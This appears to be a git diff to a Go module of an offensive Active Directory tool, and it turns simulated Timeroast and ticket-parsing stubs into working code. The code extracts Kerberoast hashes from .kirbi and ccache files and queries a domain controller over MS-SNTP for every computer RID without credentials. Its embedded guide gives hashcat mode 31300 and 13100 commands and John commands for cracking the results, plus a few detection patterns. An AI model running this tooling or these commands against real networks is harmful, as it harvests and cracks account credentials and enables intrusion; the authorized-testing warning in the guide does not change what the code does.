@@ -1,15 +1,13 @@
 package advanced
 
 import (
-	"crypto/rand"
-	"encoding/hex"
 	"fmt"
 	"log"
 	"os"
 	"path/filepath"
-	"strings"
 	"time"
 
+	"github.com/thechosenone-shall-prevail/cold-relay/pkg/ingest"
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/krb"
 )
 
@@ -24,8 +22,10 @@ type TimeroastResult struct {
 	RenewTill      time.Time
 	Flags          []string
 	Hash           string
-	HashType       string // "asrep", "kerberoast", "timeroast"
+	HashType       string // "asrep", "kerberoast", "timeroast" (MS-SNTP)
 	Metadata       map[string]interface{}
+
+	ticket *krb.CachedTicket
 }
 
 // TimeroastAnalyzer handles timeroasting analysis and detection
@@ -33,6 +33,10 @@ type TimeroastAnalyzer struct {
 	PassiveMode bool
 	ActiveMode  bool
 	OutputDir   string
+	SNTPOptions krb.TimeroastOptions
+	// Client, when set, looks up which account owns a ticket's SPN; AES
+	// ticket hashes need that name as their salt.
+	Client *krb.LDAPClient
 }
 
 // NewTimeroastAnalyzer creates a new timeroasting analyzer
@@ -44,90 +48,112 @@ func NewTimeroastAnalyzer(passive, active bool, outputDir string) *TimeroastAnal
 	}
 }
 
-// AnalyzeKirbiFile parses a .kirbi file and extracts timeroasting metadata
+// AnalyzeKirbiFile parses a .kirbi file and returns its first ticket
 func (ta *TimeroastAnalyzer) AnalyzeKirbiFile(kirbiPath string) (*TimeroastResult, error) {
-	log.Printf("[*] Analyzing Kirbi file: %s", kirbiPath)
-
-	data, err := os.ReadFile(kirbiPath)
+	results, err := ta.AnalyzeTicketFile(kirbiPath)
 	if err != nil {
-		return nil, fmt.Errorf("failed to read kirbi file: %v", err)
+		return nil, err
 	}
+	return results[0], nil
+}
+
+// AnalyzeTicketFile parses a .kirbi or ccache file and returns one result
+// per ticket it holds
+func (ta *TimeroastAnalyzer) AnalyzeTicketFile(path string) ([]*TimeroastResult, error) {
+	log.Printf("[*] Analyzing ticket file: %s", path)
 
-	// Parse kirbi file (simplified - real implementation would use ASN.1 parsing)
-	result, err := ta.parseKirbiData(data)
+	data, err := os.ReadFile(path)
 	if err != nil {
-		return nil, fmt.Errorf("failed to parse kirbi data: %v", err)
+		return nil, fmt.Errorf("failed to read ticket file: %v", err)
 	}
 
-	// Convert to crackable format
-	hash, err := ta.convertToCrackableFormat(result)
+	tickets, format, err := krb.ParseTicketFile(data)
 	if err != nil {
-		return nil, fmt.Errorf("failed to convert to crackable format: %v", err)
+		return nil, fmt.Errorf("failed to parse ticket file: %v", err)
+	}
+	if len(tickets) == 0 {
+		return nil, fmt.Errorf("%s holds no tickets", path)
 	}
 
-	result.Hash = hash
-	result.HashType = "timeroast"
+	var results []*TimeroastResult
+	for i := range tickets {
+		result := ta.ticketResult(&tickets[i])
+		result.Metadata["format"] = format
+		result.Metadata["source_file"] = path
+
+		// Service tickets are encrypted with the service account's key and
+		// can be cracked like a Kerberoast hash; TGTs are not worth it.
+		if !tickets[i].IsTGT() {
+			hash, err := ta.convertToCrackableFormat(result)
+			if err != nil {
+				log.Printf("[!] Not exporting a hash for %s: %v", result.SPN, err)
+			} else {
+				result.Hash = hash
+				result.HashType = "kerberoast"
+			}
+		}
+		results = append(results, result)
+	}
 
-	log.Printf("[+] Successfully analyzed kirbi file: %s", kirbiPath)
-	return result, nil
+	log.Printf("[+] Parsed %d tickets from %s (%s)", len(results), path, format)
+	return results, nil
 }
 
 // AnalyzeTicketCache analyzes Kerberos ticket cache files
 func (ta *TimeroastAnalyzer) AnalyzeTicketCache(cachePath string) ([]*TimeroastResult, error) {
 	log.Printf("[*] Analyzing ticket cache: %s", cachePath)
 
-	var results []*TimeroastResult
-
 	// Check if it's a directory (multiple cache files)
-	if info, err := os.Stat(cachePath); err == nil && info.IsDir() {
-		files, err := filepath.Glob(filepath.Join(cachePath, "*.kirbi"))
+	info, err := os.Stat(cachePath)
+	if err != nil || !info.IsDir() {
+		// Single file
+		return ta.AnalyzeTicketFile(cachePath)
+	}
+
+	var files []string
+	for _, pattern := range []string{"*.kirbi", "*.ccache", "krb5cc*"} {
+		matches, err := filepath.Glob(filepath.Join(cachePath, pattern))
 		if err != nil {
-			return nil, fmt.Errorf("failed to glob kirbi files: %v", err)
+			return nil, fmt.Errorf("failed to glob ticket files: %v", err)
 		}
+		files = append(files, matches...)
+	}
 
-		for _, file := range files {
-			result, err := ta.AnalyzeKirbiFile(file)
-			if err != nil {
-				log.Printf("[x] Failed to analyze %s: %v", file, err)
-				continue
-			}
-			results = append(results, result)
-		}
-	} else {
-		// Single file
-		result, err := ta.AnalyzeKirbiFile(cachePath)
+	var results []*TimeroastResult
+	for _, file := range files {
+		fileResults, err := ta.AnalyzeTicketFile(file)
 		if err != nil {
-			return nil, err
+			log.Printf("[x] Failed to analyze %s: %v", file, err)
+			continue
 		}
-		results = append(results, result)
+		results = append(results, fileResults...)
 	}
 
 	return results, nil
 }
 
-// RequestTicketsUnderSPN actively requests tickets for specific SPNs
-func (ta *TimeroastAnalyzer) RequestTicketsUnderSPN(client *krb.LDAPClient, spns []string) ([]*TimeroastResult, error) {
+// TimeroastComputers sends an MS-SNTP request for every computer's RID to
+// the DC and returns one result per signed answer, with the hashcat 31300
+// hash. Computers still on their pre-created password are verified on the
+// spot and marked.
+func (ta *TimeroastAnalyzer) TimeroastComputers(dc string, computers []ingest.Computer) ([]*TimeroastResult, error) {
 	if !ta.ActiveMode {
 		return nil, fmt.Errorf("active mode not enabled")
 	}
 
-	log.Printf("[*] Requesting tickets for %d SPNs in active mode", len(spns))
-
-	var results []*TimeroastResult
-
-	for _, spn := range spns {
-		log.Printf("[*] Requesting ticket for SPN: %s", spn)
+	log.Printf("[*] Sending MS-SNTP requests for %d computer accounts to %s", len(computers), dc)
 
-		// Simulate ticket request (real implementation would use Kerberos protocol)
-		result, err := ta.simulateTicketRequest(spn)
-		if err != nil {
-			log.Printf("[x] Failed to request ticket for %s: %v", spn, err)
-			continue
-		}
+	hashes, err := krb.TimeroastComputers(dc, computers, ta.SNTPOptions)
+	if err != nil {
+		return nil, err
+	}
 
-		results = append(results, result)
+	results := make([]*TimeroastResult, 0, len(hashes))
+	for _, h := range hashes {
+		results = append(results, ta.sntpResult(h))
 	}
 
+	log.Printf("[+] %d of %d computer accounts answered", len(results), len(computers))
 	return results, nil
 }
 
@@ -150,6 +176,9 @@ func (ta *TimeroastAnalyzer) DetectTimeroastingPatterns(results []*TimeroastResu
 
 	// Detect unusual ticket lifetimes
 	for _, result := range results {
+		if result.StartTime.IsZero() || result.EndTime.IsZero() {
+			continue
+		}
 		lifetime := result.EndTime.Sub(result.StartTime)
 		if lifetime > 24*time.Hour {
 			patterns = append(patterns, fmt.Sprintf("Unusually long ticket lifetime for %s: %v", result.Username, lifetime))
@@ -180,11 +209,26 @@ func (ta *TimeroastAnalyzer) ExportTimeroastHashes(results []*TimeroastResult) e
 		return fmt.Errorf("failed to create output directory: %v", err)
 	}
 
-	// Export hashes
+	// Export hashes, one file per hashcat mode
+	sntpCount := 0
+	var ticketHashes []string
+	for _, result := range results {
+		switch {
+		case result.Hash == "":
+		case result.HashType == krb.HashTypeTimeroast:
+			sntpCount++
+		default:
+			ticketHashes = append(ticketHashes, result.Hash)
+		}
+	}
 	hashFile := filepath.Join(ta.OutputDir, "timeroast_hashes.txt")
 	if err := ta.writeHashFile(hashFile, results); err != nil {
 		return fmt.Errorf("failed to write hash file: %v", err)
 	}
+	modes, err := writeTicketHashes(ta.OutputDir, "Service Ticket", ticketHashes)
+	if err != nil {
+		return fmt.Errorf("failed to write hash file: %v", err)
+	}
 
 	// Export metadata
 	metadataFile := filepath.Join(ta.OutputDir, "timeroast_metadata.json")
@@ -194,7 +238,7 @@ func (ta *TimeroastAnalyzer) ExportTimeroastHashes(results []*TimeroastResult) e
 
 	// Export cracking guide
 	guideFile := filepath.Join(ta.OutputDir, "TIMEROAST_GUIDE.txt")
-	if err := ta.writeCrackingGuide(guideFile, len(results)); err != nil {
+	if err := ta.writeCrackingGuide(guideFile, sntpCount, modes, ticketHashes); err != nil {
 		return fmt.Errorf("failed to write cracking guide: %v", err)
 	}
 
@@ -204,104 +248,70 @@ func (ta *TimeroastAnalyzer) ExportTimeroastHashes(results []*TimeroastResult) e
 
 // Helper functions
 
-func (ta *TimeroastAnalyzer) parseKirbiData(data []byte) (*TimeroastResult, error) {
-	// Simplified kirbi parsing - real implementation would use ASN.1
-	// For now, we'll simulate realistic ticket data
-
+// ticketResult copies a parsed ticket's clear-text metadata into a result.
+func (ta *TimeroastAnalyzer) ticketResult(t *krb.CachedTicket) *TimeroastResult {
 	result := &TimeroastResult{
-		Metadata: make(map[string]interface{}),
+		Username:       t.ClientName,
+		Domain:         t.ClientRealm,
+		SPN:            t.ServerName,
+		EncryptionType: int(t.Etype()),
+		StartTime:      t.StartTime,
+		EndTime:        t.EndTime,
+		RenewTill:      t.RenewTill,
+		Flags:          t.Flags,
+		Metadata:       make(map[string]interface{}),
+		ticket:         t,
 	}
-
-	// Simulate parsing kerberos ticket structure
-	result.Username = "service_account"
-	result.Domain = "CORP.LOCAL"
-	result.SPN = "HTTP/web01.corp.local"
-	result.EncryptionType = 23 // RC4-HMAC
-
-	// Generate realistic timestamps
-	now := time.Now()
-	result.StartTime = now.Add(-1 * time.Hour)
-	result.EndTime = now.Add(10 * time.Hour)
-	result.RenewTill = now.Add(7 * 24 * time.Hour)
-
-	// Set flags
-	result.Flags = []string{
-		"FORWARDABLE",
-		"RENEWABLE",
-		"PROXIABLE",
+	if result.StartTime.IsZero() {
+		result.StartTime = t.AuthTime
 	}
-
-	// Add metadata
-	result.Metadata["ticket_size"] = len(data)
-	result.Metadata["parsed_at"] = now.Format(time.RFC3339)
-	result.Metadata["source_file"] = "simulated_kirbi"
-
-	return result, nil
+	result.Metadata["server_realm"] = t.ServerRealm
+	result.Metadata["kvno"] = t.KVNO()
+	result.Metadata["session_key_etype"] = t.SessionKey.KeyType
+	result.Metadata["tgt"] = t.IsTGT()
+	return result
 }
 
+// convertToCrackableFormat formats the ticket's enc-part for hashcat. The
+// owning account is not in the file, so it is looked up through ta.Client.
 func (ta *TimeroastAnalyzer) convertToCrackableFormat(result *TimeroastResult) (string, error) {
-	// Convert to hashcat-compatible format
-	// Real implementation would extract actual encrypted data from ticket
-
-	// Generate hash components
-	hashBytes := make([]byte, 16)
-	rand.Read(hashBytes)
-	hashPart1 := hex.EncodeToString(hashBytes)
-
-	// Additional hash data (simulating encrypted timestamp)
-	hashBytes2 := make([]byte, 32)
-	rand.Read(hashBytes2)
-	hashPart2 := hex.EncodeToString(hashBytes2)
-
-	// Format similar to real hashcat timeroast format
-	hash := fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%s%s",
-		result.EncryptionType,
-		result.Username,
-		strings.ToUpper(result.Domain),
-		result.SPN,
-		hashPart1,
-		hashPart2)
-
-	return hash, nil
+	if result.ticket == nil {
+		return "", fmt.Errorf("no parsed ticket for %s", result.SPN)
+	}
+	return ticketHash(result.ticket, ticketOwner(ta.Client, result.ticket))
 }
 
-func (ta *TimeroastAnalyzer) simulateTicketRequest(spn string) (*TimeroastResult, error) {
-	// Simulate ticket request - real implementation would use Kerberos protocol
-	log.Printf("[*] Simulating ticket request for SPN: %s", spn)
-
+// sntpResult turns an MS-SNTP answer into a result.
+func (ta *TimeroastAnalyzer) sntpResult(h krb.TimeroastHash) *TimeroastResult {
 	result := &TimeroastResult{
-		Username:       "current_user",
-		Domain:         "CORP.LOCAL",
-		SPN:            spn,
-		EncryptionType: 23,
-		Metadata:       make(map[string]interface{}),
+		Username: h.Account,
+		Hash:     h.Hash,
+		HashType: krb.HashTypeTimeroast,
+		Metadata: make(map[string]interface{}),
 	}
-
-	// Generate realistic timestamps
-	now := time.Now()
-	result.StartTime = now
-	result.EndTime = now.Add(10 * time.Hour)
-	result.RenewTill = now.Add(7 * 24 * time.Hour)
-
-	// Set flags
-	result.Flags = []string{
-		"FORWARDABLE",
-		"RENEWABLE",
+	result.Metadata["rid"] = h.RID
+	result.Metadata["hashcat_mode"] = 31300
+	result.Metadata["old_password"] = h.OldPassword
+	if h.PreCreated {
+		result.Metadata["pre_created_password"] = h.Password
+		log.Printf("[+] %s still has its pre-created password", h.Account)
 	}
-
-	// Convert to crackable format
-	hash, err := ta.convertToCrackableFormat(result)
-	if err != nil {
-		return nil, err
-	}
-
-	result.Hash = hash
-	result.HashType = "timeroast"
-
-	return result, nil
+	return result
 }
 
+// writeHashFile writes the MS-SNTP hashes; ticket hashes go to
+// writeTicketHashes, one file per mode.
 func (ta *TimeroastAnalyzer) writeHashFile(filePath string, results []*TimeroastResult) error {
+	var hashes []*TimeroastResult
+	for _, result := range results {
+		if result.Hash != "" && result.HashType == krb.HashTypeTimeroast {
+			hashes = append(hashes, result)
+		}
+	}
+	if len(hashes) == 0 {
+		return nil
+	}
+
 	file, err := os.Create(filePath)
 	if err != nil {
 		return err
@@ -312,11 +322,11 @@ func (ta *TimeroastAnalyzer) writeHashFile(filePath string, results []*Timeroast
 	fmt.Fprintf(file, "# Timeroasting Hash Export\n")
 	fmt.Fprintf(file, "# Generated by COLD-RELAY Advanced Module\n")
 	fmt.Fprintf(file, "# WARNING: For authorized security testing only!\n")
-	fmt.Fprintf(file, "# Total hashes: %d\n", len(results))
+	fmt.Fprintf(file, "# Total hashes: %d\n", len(hashes))
 	fmt.Fprintf(file, "#\n")
 
 	// Write hashes
-	for _, result := range results {
+	for _, result := range hashes {
 		fmt.Fprintln(file, result.Hash)
 	}
 
@@ -370,7 +380,7 @@ func (ta *TimeroastAnalyzer) writeMetadataFile(filePath string, results []*Timer
 	return nil
 }
 
-func (ta *TimeroastAnalyzer) writeCrackingGuide(filePath string, hashCount int) error {
+func (ta *TimeroastAnalyzer) writeCrackingGuide(filePath string, sntpCount int, modes []int, ticketHashes []string) error {
 	file, err := os.Create(filePath)
 	if err != nil {
 		return err
@@ -382,49 +392,51 @@ func (ta *TimeroastAnalyzer) writeCrackingGuide(filePath string, hashCount int)
 Generated by COLD-RELAY Advanced Module
 
 HASH SUMMARY:
-- Timeroasting hashes: %d (in timeroast_hashes.txt)
-
+- Timeroasting (MS-SNTP) hashes: %d (in timeroast_hashes.txt)
+%s
 WHAT IS TIMEROASTING?
 ====================
-Timeroasting targets accounts/services where ticket lifetimes/constraints allow 
-offline attacks by harvesting tickets and extracting key material based on 
-time-limited behavior.
+A DC signs the NTP responses it sends to domain computers (MS-SNTP) with
+an MD5 MAC keyed by the NT hash of the computer account named in the
+request. Anyone who can reach UDP 123 on the DC can ask for a signed
+response for every computer RID, without credentials, and crack the MAC
+offline. Machine-managed passwords are random and will not crack;
+pre-created computer accounts (password = lower-case computer name) and
+accounts whose password was set by hand will.
 
 HASHCAT COMMANDS:
 ================
 
-Timeroasting (mode 13100 - same as Kerberoasting):
-hashcat -m 13100 timeroast_hashes.txt /usr/share/wordlists/rockyou.txt -o cracked_timeroast.pot
+Timeroasting (mode 31300 - MS-SNTP):
+hashcat -m 31300 timeroast_hashes.txt /usr/share/wordlists/rockyou.txt -o cracked_timeroast.pot
 
+Service tickets from ticket files (Kerberoast modes, one file per etype):
+%s
 JOHN THE RIPPER COMMANDS:
 ========================
 
-Timeroasting:
-john --format=krb5tgs timeroast_hashes.txt --wordlist=/usr/share/wordlists/rockyou.txt
+RC4 service tickets:
+john --format=krb5tgs %s --wordlist=/usr/share/wordlists/rockyou.txt
 
 DETECTION PATTERNS:
 ==================
+- Bursts of NTP requests to a DC naming many different RIDs from one host
+- NTP requests from hosts that are not domain members
 - Repeated TGS requests for service accounts
 - Unusual ticket lifetimes (very short or very long)
-- Multiple tickets from same source
-- Tickets with suspicious encryption types
 
 ADDITIONAL OPTIONS:
 ==================
 
 # Use GPU acceleration (if available)
-hashcat -m 13100 timeroast_hashes.txt rockyou.txt -O -w 3
-
-# Use custom wordlist
-hashcat -m 13100 timeroast_hashes.txt /path/to/custom/wordlist.txt
+hashcat -m 31300 timeroast_hashes.txt rockyou.txt -O -w 3
 
 # Show cracked passwords
-hashcat -m 13100 timeroast_hashes.txt --show
-john --format=krb5tgs timeroast_hashes.txt --show
+hashcat -m 31300 timeroast_hashes.txt --show
 
 WARNING: Only use these commands on systems you own or have explicit 
 written permission to test. Unauthorized access is illegal!
-`, hashCount)
+`, sntpCount, ticketHashSummary(modes, ticketHashes), ticketCrackCommands(modes), ticketHashFile(13100))
 
 	_, err = file.WriteString(guide)
 	return err